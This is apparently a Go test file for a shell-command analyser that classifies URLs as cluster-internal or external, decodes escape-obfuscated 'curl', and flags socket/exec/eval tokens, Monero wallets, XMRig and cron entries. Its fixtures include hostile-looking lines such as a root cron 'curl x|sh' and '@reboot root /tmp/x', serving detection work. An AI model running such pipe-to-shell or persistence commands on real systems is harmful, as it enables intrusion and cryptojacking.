package cmdline

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

func TestClassifyURL(t *testing.T) {
	cases := map[string]dest{
		"https://kubernetes.default.svc/api":           destCluster,
		"https://kubernetes.default.svc.cluster.local": destCluster,
		"https://kubernetes":                           destCluster,
		"http://backup-svc.internal/trigger":           destCluster,
		"http://vault.vault:8200/v1/secret":            destCluster,
		"https://10.96.0.1/api":                        destCluster,
		"http://[::1]:8080/":                           destCluster,
		"http://169.254.169.254/latest/":               destCluster,
		"https://$KUBERNETES_SERVICE_HOST:443/api":     destCluster,
		"https://evil.example.com/x":                   destExternal,
		"http://1.2.3.4:8080/":                         destExternal,
		"http://user:pw@paste.example.org/x":           destExternal,
		"ftp://x.example.ru/":                          destExternal,
		"https://x.ngrok-free.app/":                    destExternal,
		"https://vault.example.com/v1/auth/k8s/login":  destCluster,
		"$URL/x":                            destUnknown,
		"":                                  destUnknown,
		"evil.com":                          destExternal,
		"1.2.3.4":                           destExternal,
		"http://[2001:db8::1]:80/":          destExternal,
		"https://api.mycompany.corp/upload": destCluster,
		"https://Evil.Example.COM./x":       destExternal,
		"https://100.64.0.10/":              destCluster,
		"https://metadata.google.internal/computeMetada": destCluster,
	}
	for u, want := range cases {
		if got := classifyURL(u); got != want {
			t.Errorf("classifyURL(%q) = %d, want %d", u, got, want)
		}
	}
}

func TestPrintfAndEscapes(t *testing.T) {
	cases := []struct {
		format string
		args   []string
		want   string
	}{
		{`\x63\x75\x72\x6c`, nil, "curl"},
		{`\143\165\162\154`, nil, "curl"},
		{`%s %s\n`, []string{"a", "b"}, "a b\n"},
		{`%s`, []string{"a", "b", "c"}, "abc"},
		{`%b`, []string{`\x41\n`}, "A\n"},
		{`%c%c`, []string{"curl", "url"}, "cu"},
		{`%d-%x`, []string{"12", "255"}, "12-ff"},
		{`100%%`, nil, "100%"},
		{`a\\b`, nil, `a\b`},
		{`trailing\`, nil, `trailing\`},
	}
	for _, c := range cases {
		args := make([]val, len(c.args))
		for i, a := range c.args {
			args[i] = lit(a)
		}
		if got := printf(lit(c.format), args); got.s != c.want || !got.known {
			t.Errorf("printf(%q, %q) = %q (known %v), want %q", c.format, c.args, got.s, got.known, c.want)
		}
	}
	if got := ansiC(`\e[0m\u00e9\t\c@x`); got != "\x1b[0mé\t\x00x" {
		t.Errorf("ansiC = %q", got)
	}
}

func TestTrimPattern(t *testing.T) {
	cases := []struct {
		s, pat string
		op     syntax.ParExpOperator
		want   string
	}{
		{"http://x/y.sh", "*/", syntax.RemSmallPrefix, "/x/y.sh"},
		{"http://x/y.sh", "*/", syntax.RemLargePrefix, "y.sh"},
		{"archive.tar.gz", ".*", syntax.RemSmallSuffix, "archive.tar"},
		{"archive.tar.gz", ".*", syntax.RemLargeSuffix, "archive"},
		{"xxcurl", "xx", syntax.RemSmallPrefix, "curl"},
		{"curl", "?", syntax.RemSmallSuffix, "cur"},
		{"abc", "z*", syntax.RemSmallPrefix, "abc"},
	}
	for _, c := range cases {
		if got := trimPattern(c.s, c.pat, c.op); got != c.want {
			t.Errorf("trimPattern(%q, %q, %v) = %q, want %q", c.s, c.pat, c.op, got, c.want)
		}
	}
}

func TestTokensAndWallets(t *testing.T) {
	for _, c := range []struct {
		s, tok string
		want   bool
	}{
		{"import socket,os", "socket", true},
		{"import websocket", "socket", false},
		{"socket.socket()", "socket", true},
		{"x=mysocket_lib", "socket", false},
		{"exec(code)", "exec(", true},
		{"os.execv(x)", "exec(", false},
		{"model.eval()", "eval(", false},
		{"re.compile(p)", "compile(", false},
		{"$pdo->exec($q)", "exec(", false},
		{"x=eval(y)", "eval(", true},
		{"require 'LWP::Simple';", "LWP::Simple", true},
	} {
		if got := hasToken(c.s, c.tok); got != c.want {
			t.Errorf("hasToken(%q, %q) = %v", c.s, c.tok, got)
		}
	}
	if !moneroWallet(wallet) || !moneroWallet(wallet+".rig1") || moneroWallet(wallet[:94]) || moneroWallet("0"+wallet[1:]) {
		t.Error("moneroWallet misjudges")
	}
	if !hasFold("XMRig-6.21", "xmr") || hasFold("xm", "xmr") {
		t.Error("hasFold misjudges")
	}
}

func TestCronCommand(t *testing.T) {
	for _, c := range []struct {
		line   string
		system bool
		want   string
	}{
		{"* * * * * root curl x|sh", true, "curl x|sh"},
		{"*/5 * * * * /backup.sh --full", false, "/backup.sh --full"},
		{"@reboot root /tmp/x", true, "/tmp/x"},
		{"@hourly /tmp/y", false, "/tmp/y"},
		{"# comment", false, ""},
		{"SHELL=/bin/bash", true, ""},
		{"* * *", false, ""},
		{"", false, ""},
	} {
		if got := cronCommand(c.line, c.system); got != c.want {
			t.Errorf("cronCommand(%q, %v) = %q, want %q", c.line, c.system, got, c.want)
		}
	}
}

func TestTooDeep(t *testing.T) {
	for s, want := range map[string]bool{
		"curl http://x | sh":                           false,
		"if a; then if b; then c; fi; fi":              false,
		strings.Repeat("(", 501):                       true,
		strings.Repeat("if x; then ", 501):             true,
		strings.Repeat("(a) ", 10000):                  false,
		"echo $((" + strings.Repeat("- ", 600) + "1))": true,
		strings.Repeat("`a` ", 10000):                  false,
		strings.Repeat("echo ----------; ", 100):       false,
	} {
		if got := tooDeep(s); got != want {
			t.Errorf("tooDeep(%.30q...) = %v, want %v", s, got, want)
		}
	}
}

func TestKubeExpand(t *testing.T) {
	env := map[string]string{"A": "x", "B": "y z"}
	for in, want := range map[string]string{
		"$(A)":         "x",
		"pre-$(B)-suf": "pre-y z-suf",
		"$$(A)":        "$(A)",
		"$(C)":         "$(C)",
		"$A $(A":       "$A $(A",
		"$":            "$",
		"a$$b":         "a$b",
	} {
		if got := kubeExpand(in, env); got != want {
			t.Errorf("kubeExpand(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSplitStatements(t *testing.T) {
	got := splitStatements("a; b && c || d & e\n'f; g' \"h\nmore")
	want := []string{"a", "b", "c", "d", "e", "'f; g' \"h", "more"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("splitStatements = %q, want %q", got, want)
	}
	words, rds := (&state{r: newRun(nil)}).lenientWords(`c''url "http://x" 2>&1 >/tmp/o <&3`)
	if len(words) != 2 || words[0].s != "curl" || words[1].s != "http://x" || len(rds) != 3 {
		t.Errorf("lenientWords = %v %v", words, rds)
	}
}
